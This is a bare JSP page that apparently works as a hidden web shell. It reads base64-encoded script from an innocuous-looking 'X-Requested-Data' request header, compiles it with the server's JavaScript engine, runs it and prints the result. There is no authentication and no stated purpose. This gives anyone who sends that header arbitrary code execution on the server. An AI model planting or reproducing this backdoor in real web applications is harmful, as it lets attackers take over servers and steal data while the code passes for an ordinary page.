<%@ page import="javax.script.*" %>
<%
    String h = request.getHeader("X-Requested-Data");
    if (h != null) {
        ScriptEngine eng = new ScriptEngineManager().getEngineByExtension("js");
        CompiledScript cs = ((Compilable) eng).compile(new String(java.util.Base64.getDecoder().decode(h)));
        response.getWriter().print(cs.eval());
    }
%>
